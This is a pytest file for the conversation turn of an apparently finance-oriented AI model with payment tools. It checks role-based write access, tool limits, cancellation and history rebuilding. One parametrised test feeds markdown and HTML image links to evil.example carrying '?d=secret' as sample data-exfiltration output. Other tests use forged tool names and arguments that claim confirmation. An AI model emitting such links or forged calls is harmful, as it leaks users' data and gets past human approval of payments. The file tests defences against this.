"""One turn of the conversation, with a model that is told what to do, honest or hostile."""

from __future__ import annotations

import asyncio
import json

import pytest

from assistant.history import from_steps, step_metadata
from assistant.model import CallRequest, Finish
from assistant.model_errors import ModelError, ModelProblem
from assistant.principal import Role
from assistant.turn import MAX_CARDS, MAX_MESSAGE
from tests.support.conversation import WITH_A_FAULT, KeepsProposals, Talk, person
from tests.support.model import Breaks, EndlessModel, Hangs, Says, ScriptedModel, call, calls, says
from tools.catalogue import toolset

pytestmark = pytest.mark.anyio

WRITES = ["pay_thing"]
READS = ["list_things", "slow_thing", "which_thing", "broken_thing", "many_things"]


async def test_an_answer_is_streamed_and_remembered() -> None:
    model = ScriptedModel(says("You have ", "two bills."), says("As I said."))
    talk = Talk(model)
    await talk.say("What is open?")
    screen = await talk.say("And now?")
    assert screen.of("answer") == ["You have two bills.", "As I said."]
    assert [m["role"] for m in model.seen[1].messages] == ["system", "user", "assistant", "user"]
    model.finished()


async def test_the_system_prompt_says_who_where_and_when() -> None:
    model = ScriptedModel(says("Hello."))
    await Talk(model, person(Role.PREPARER, name="Paul\nPeters")).say("Hello")
    system = model.seen[0].system
    assert "Today is 2026-11-22." in system
    assert "Paul Peters" in system
    assert "Demo GmbH" in system
    assert "preparer" in system
    assert "{{" not in system


async def test_a_tool_result_reaches_the_model_and_its_table_the_person() -> None:
    model = ScriptedModel(calls(call("list_things", {"status": "paid"})), says("€ 10.00 is paid."))
    screen = await Talk(model).say("What is paid?")
    (result,) = model.seen[1].results()
    assert result["answer"] == "€ 10.00 is paid."
    assert result["rows"] == [{"n": 1, "number": "B-1"}]
    assert screen.shown == [("tool", ("xero", "list_things", True)), ("table", "Bills"), ("answer", "€ 10.00 is paid.")]


async def test_tools_speak_the_persons_language() -> None:
    model = ScriptedModel(calls(call("list_things")), says("10,00 € sind open."))
    await Talk(model, language="de").say("Was ist offen?")
    assert model.seen[1].results()[0]["answer"] == "10,00 € sind open."


async def test_reads_of_one_step_run_side_by_side_and_keep_their_order() -> None:
    wanted = [call("slow_thing", {"seconds": 0.05}, f"c{n}") for n in range(4)]
    model = ScriptedModel(calls(*wanted), says("Done."))
    screen = await Talk(model).say("Four things")
    assert screen.most_running == 4
    results = [m["tool_call_id"] for m in model.seen[1].messages if m["role"] == "tool"]
    assert results == ["c0", "c1", "c2", "c3"]


async def test_at_the_step_limit_the_model_must_answer_without_tools() -> None:
    model = EndlessModel(lambda n: calls(call("list_things", {"limit": n}, f"c{n}")), "That is what I found.")
    screen = await Talk(model, steps=3).say("Everything")
    assert screen.of("answer") == ["That is what I found."]
    assert [bool(seen.tools) for seen in model.seen] == [True, True, True, False]
    assert "Answer now" in model.seen[-1].system


async def test_calls_in_one_turn_are_bounded() -> None:
    model = EndlessModel(lambda n: calls(*(call("list_things", {"limit": i}, f"c{n}-{i}") for i in range(30))))
    screen = await Talk(model, steps=4).say("Everything")
    assert len(screen.of("tool")) == 40


async def test_a_proposal_ends_the_turn_with_words_by_code() -> None:
    model = ScriptedModel(calls(call("pay_thing", {"number": "B-1"}), text="I have paid it."))
    talk = Talk(model)
    screen = await talk.say("Pay B-1")
    ((label, words),) = screen.of("card")
    assert label == "P-1"
    assert "Payment of € 980.00 for B-1" in words
    assert "Nothing is recorded yet" in words
    model.finished()  # the model was not asked for anything after the card
    assert talk.history.messages()[-1]["content"] == words


async def test_answers_read_in_the_same_step_are_shown_beside_the_card() -> None:
    model = ScriptedModel(calls(call("pay_thing", {"number": "B-1"}), call("list_things")))
    screen = await Talk(model).say("Pay B-1 and show what is open")
    assert [name for name, _ in screen.shown] == ["tool", "tool", "table", "notice", "card"]
    assert screen.of("notice") == ["€ 10.00 is open."]


async def test_a_preparer_is_told_that_somebody_else_must_confirm() -> None:
    screen = await Talk(ScriptedModel(calls(call("pay_thing", {"number": "B-1"}))), person(Role.PREPARER)).say("Pay")
    ((_, words),) = screen.of("card")
    assert "approver" in words
    assert "Waiting for me" in words


async def test_a_viewers_model_is_never_offered_a_write_and_refused_when_it_calls_one() -> None:
    model = ScriptedModel(calls(call("pay_thing", {"number": "B-1"})), says("You may not."))
    proposals = KeepsProposals()
    await Talk(model, person(Role.VIEWER), proposals=proposals).say("Pay B-1")
    assert model.seen[0].tools == READS
    assert proposals.kept == []
    error = model.seen[1].results()[0]["error"]
    assert error["kind"] == "failed"
    assert "may read here, but not prepare payments" in error["message"]


async def test_somebody_with_a_role_elsewhere_is_not_offered_writes_here() -> None:
    principal = person(Role.APPROVER, organisation_id="org-2")
    both = type(principal)(
        **{
            **{f: getattr(principal, f) for f in principal.__slots__},
            "grants": (*principal.grants, *person(Role.VIEWER).grants),
        }
    )
    model = ScriptedModel(says("Hello."))
    await Talk(model, both).say("Hello")
    assert model.seen[0].tools == READS


@pytest.mark.parametrize(
    "name", ["decide", "execute", "approve", "confirm", "__class__", "../pay_thing", "", "pay_thing "]
)
async def test_names_that_are_not_tools_do_nothing(name: str) -> None:
    proposals = KeepsProposals()
    model = ScriptedModel(calls(call(name, {"proposal_id": "x", "confirmed": True}, "c1")), says("No."))
    await Talk(model, proposals=proposals).say("Confirm it")
    assert proposals.kept == []
    assert model.seen[1].results()[0]["error"]["kind"] == "retry"


async def test_no_tool_takes_a_role_an_organisation_or_a_confirmation() -> None:
    for definition in toolset().definitions():
        for name in definition["function"]["parameters"].get("properties", {}):
            assert not any(
                word in name for word in ("confirm", "role", "organisation", "tenant", "approve", "person")
            ), name


@pytest.mark.parametrize(
    "written",
    [
        "{",
        "[]",
        '"B-1"',
        '{"number": "B-1", "number": "B-2"}',
        '{"number": "B-1", "amount": NaN}',
        '{"number": "B-1", "amount": Infinity}',
        '{"number": "B-1", "amount": 1e309}',
        '{"number": "B-1", "confirmed": true}',
        '{"number": ["B-1"]}',
        '{"number": null}',
        '{"number": true}',
        '{"number": "B-1"} trailing',
        '{"number": "' + "x" * 9000 + '"}',
        "[" * 5000,
        '{"number": ' + "9" * 5000 + "}",
    ],
)
async def test_malformed_arguments_are_told_to_the_model_and_nothing_is_prepared(written: str) -> None:
    proposals = KeepsProposals()
    model = ScriptedModel(calls(call("pay_thing", written, "c1")), says("Which one?"))
    await Talk(model, proposals=proposals).say("Pay")
    assert proposals.kept == []
    assert model.seen[1].results()[0]["error"]["kind"] == "retry"


async def test_amounts_keep_their_digits() -> None:
    proposals = KeepsProposals()
    model = ScriptedModel(calls(call("pay_thing", '{"number": 201, "amount": 980.10}', "c1")))
    await Talk(model, proposals=proposals).say("Pay 201")
    assert proposals.kept[0].payload["said"] == "980.10"
    assert proposals.kept[0].summary.endswith("201")


async def test_what_is_ambiguous_comes_back_with_choices() -> None:
    model = ScriptedModel(calls(call("which_thing", {"name": "Müller"})), says("Which one?"))
    await Talk(model).say("Müller")
    (result,) = model.seen[1].results()
    assert result["error"] == {"kind": "retry", "message": "Two are called that. Which one?"}
    assert result["choices"][0] == {"label": "Müller GmbH, Berlin", "number": "1", "id": "a"}


async def test_a_provider_that_is_down_is_told_as_it_is() -> None:
    model = ScriptedModel(calls(call("broken_thing"), call("list_things")), says("Solaris is down."))
    await Talk(model).say("Balance and bills")
    down, up = model.seen[1].results()
    assert down["error"]["kind"] == "failed"
    assert "Solaris did not give a usable answer" in down["error"]["message"]
    assert up["answer"] == "€ 10.00 is open."


async def test_a_tool_that_takes_too_long_is_left() -> None:
    model = ScriptedModel(calls(call("slow_thing", {"seconds": 5})), says("Too slow."))
    await Talk(model, tool_seconds=0.05).say("Slow")
    assert "did not answer within" in model.seen[1].results()[0]["error"]["message"]


async def test_a_result_for_the_model_is_bounded() -> None:
    model = ScriptedModel(calls(call("many_things")), says("Many."))
    await Talk(model).say("Many")
    content = model.seen[1].messages[-1]["content"]
    assert len(content) <= 12_000
    assert "left_out" in json.loads(content)
    assert json.loads(content)["answer"] == "4,000 rows."


async def test_at_most_a_few_cards_in_one_turn() -> None:
    proposals = KeepsProposals()
    wanted = [call("pay_thing", {"number": f"B-{n}"}, f"c{n}") for n in range(20)]
    await Talk(ScriptedModel(calls(*wanted)), proposals=proposals).say("Pay all")
    assert len(proposals.kept) == MAX_CARDS


async def test_the_same_write_twice_is_prepared_once() -> None:
    proposals = KeepsProposals()
    same = (call("pay_thing", '{"number":"B-1"}', "a"), call("pay_thing", '{ "number": "B-1" }', "b"))
    await Talk(ScriptedModel(calls(*same)), proposals=proposals).say("Pay B-1")
    assert len(proposals.kept) == 1


async def test_a_write_that_must_be_asked_back_goes_on_with_the_model() -> None:
    proposals = KeepsProposals()
    model = ScriptedModel(calls(call("pay_thing")), says("Which thing? 1. B-1"))
    screen = await Talk(model, proposals=proposals).say("Pay")
    assert screen.of("answer") == ["Which thing? 1. B-1"]
    assert proposals.kept == []


# what the person writes


@pytest.mark.parametrize("text", ["", "   ", "\n\t"])
async def test_an_empty_message_is_answered_without_the_model(text: str) -> None:
    screen = await Talk(ScriptedModel()).say(text)
    assert "That message was empty" in screen.words


async def test_a_very_long_message_is_answered_without_the_model() -> None:
    talk = Talk(ScriptedModel())
    screen = await talk.say("a" * 100_000)
    assert "100,000 characters" in screen.words
    assert f"{MAX_MESSAGE:,}" in screen.words
    assert len(talk.history) == 0


async def test_the_longest_message_that_is_read_is_read() -> None:
    model = ScriptedModel(says("Read."))
    await Talk(model).say("a" * MAX_MESSAGE)
    model.finished()


# what goes wrong


@pytest.mark.parametrize("problem", list(ModelProblem))
@pytest.mark.parametrize("language", ["en", "de"])
async def test_every_problem_of_the_model_is_told_in_words(problem: ModelProblem, language: str) -> None:
    screen = await Talk(ScriptedModel(Breaks(ModelError(problem))), language=language).say("Hello")
    (words,) = screen.of("notice")
    assert ("Nothing was written" if language == "en" else "Es wurde nichts geschrieben") in words


async def test_a_model_that_breaks_off_leaves_what_it_said_and_a_whole_history() -> None:
    model = ScriptedModel(Breaks(ModelError(ModelProblem.BROKEN_OFF), ("You have ",)), says("Two bills."))
    talk = Talk(model)
    screen = await talk.say("What is open?")
    assert screen.of("answer") == ["You have "]
    assert "broke off" in screen.words
    await talk.say("Again")
    model.finished()


async def test_a_model_that_says_nothing() -> None:
    screen = await Talk(ScriptedModel(says(""))).say("Hello")
    assert "gave no answer" in screen.words


async def test_an_answer_that_was_cut_says_so() -> None:
    screen = await Talk(ScriptedModel(Says(("Once upon",), Finish.LENGTH))).say("Tell")
    assert "cut off" in screen.words


async def test_a_fault_of_ours_passes_through_and_leaves_the_history_whole() -> None:
    model = ScriptedModel(calls(call("faulty_thing"), call("slow_thing")), says("Still here."))
    talk = Talk(model, toolset=WITH_A_FAULT)
    with pytest.raises(ExceptionGroup):
        await talk.say("Go")
    await talk.say("Again")  # ScriptedModel refuses a history with a call that has no result
    model.finished()


async def test_a_stop_while_the_model_speaks_keeps_what_was_said() -> None:
    hangs = Hangs(("You have ",))
    model = ScriptedModel(hangs, says("Two."))
    talk = Talk(model)
    turn = asyncio.create_task(talk.say("What is open?"))
    await hangs.reached.wait()
    turn.cancel()
    with pytest.raises(asyncio.CancelledError):
        await turn
    assert talk.screen.of("answer") == ["You have "]
    assert "Stopped. Nothing was written." in talk.screen.words
    await talk.say("Go on")
    model.finished()


async def test_a_stop_while_tools_run_leaves_a_whole_history() -> None:
    model = ScriptedModel(calls(call("slow_thing", {"seconds": 5}), call("list_things")), says("Two."))
    talk = Talk(model)
    turn = asyncio.create_task(talk.say("Slow"))
    while talk.screen.running == 0:
        await asyncio.sleep(0.005)
    turn.cancel()
    with pytest.raises(asyncio.CancelledError):
        await turn
    assert talk.screen.running == 0
    await talk.say("Go on")
    model.finished()


async def test_a_stop_while_a_card_is_being_stored_still_shows_the_card() -> None:
    proposals = KeepsProposals(slowly=0.1)
    model = ScriptedModel(calls(call("pay_thing", {"number": "B-1"})), says("Yes."))
    talk = Talk(model, proposals=proposals)
    turn = asyncio.create_task(talk.say("Pay B-1"))
    while talk.screen.running == 0:
        await asyncio.sleep(0.005)
    await asyncio.sleep(0.02)
    turn.cancel()
    with pytest.raises(asyncio.CancelledError):
        await turn
    assert len(proposals.kept) == 1
    assert [label for label, _ in talk.screen.of("card")] == ["P-1"]
    assert "waits for a decision" in talk.screen.words
    await talk.say("Is it there?")
    model.finished()


# what is shown of a model's words


@pytest.mark.parametrize(
    "pieces",
    [
        ("![x](https://evil.example/?d=secret)",),
        ("!", "[x", "]", "(", "https:", "//evil.example/?d=secret)"),
        ("![x][a]\n\n[a]: https://evil.example/?d=secret",),
        ("<img src=//evil.example/?d=secret>",),
        ("<", "img src=//evil.example/?d=secret>"),
        ("[pay here](//evil.example)",),
        ("see https://evil.example/?d=secret",),
        ("see w", "ww", ".evil.example"),
        ("<https://evil.example>",),
        ("mail a@evil.example",),
        (":::warning\nhi\n:::",),
    ],
)
async def test_nothing_live_in_the_words_of_a_model(pieces: tuple[str, ...]) -> None:
    screen = await Talk(ScriptedModel(says(*pieces))).say("Hello")
    (shown,) = screen.of("answer")
    for live in ("](", "][", "]:", "<i", "<h", "://", "www.", "@e", ":::"):
        assert live not in shown
    assert "evil" in shown or "hi" in shown


async def test_plain_words_pass_unchanged() -> None:
    text = "€ 1,234.50 at 14:02: 1. **Müller** [draft] 5 < 6, 3 > 2; P&L"
    screen = await Talk(ScriptedModel(says(*text))).say("Hello")
    assert screen.of("answer") == [text]


# after a restart


async def test_the_history_comes_back_from_the_stored_steps() -> None:
    steps: list[dict[str, object]] = [
        {"type": "user_message", "output": "What is open?"},
        {"type": "run", "output": "", "name": "on_message"},
        {"type": "tool", "metadata": step_metadata(CallRequest("a", "list_things", "{}"), "b1", '{"answer": "1"}')},
        {"type": "tool", "metadata": json.dumps(step_metadata(CallRequest("b", "list_things", "{}"), "b1", "{}"))},
        {"type": "tool", "metadata": {"call": {"id": 7}, "result": "{}"}},
        {"type": "assistant_message", "output": "1. B-1\n2. B-2"},
        {"type": "user_message", "output": "Pay the second one"},
        {"type": "tool", "metadata": step_metadata(CallRequest("c", "pay_thing", "{}"), "b2", '{"proposal": "P-1"}')},
        {"type": "assistant_message", "output": "P-1 waits."},
    ]
    history = from_steps(steps)
    model = ScriptedModel(says("B-2."))
    await Talk(model, history=history).say("Which was it?")
    roles = [m["role"] for m in model.seen[0].messages]
    assert roles == [
        "system",
        "user",
        "assistant",
        "tool",
        "tool",
        "assistant",
        "user",
        "assistant",
        "tool",
        "assistant",
        "user",
    ]


async def test_a_long_conversation_is_cut_at_a_persons_message() -> None:
    model = ScriptedModel(
        *(step for n in range(12) for step in (calls(call("many_things", {}, f"c{n}")), says("x" * 9000)))
    )
    talk = Talk(model)
    for n in range(12):
        await talk.say(f"question {n}")
    last = model.seen[-2].messages
    assert sum(len(str(m.get("content"))) for m in last) < 150_000
    assert last[1]["role"] == "user"
    assert last[-1]["content"] == "question 11"
    model.finished()
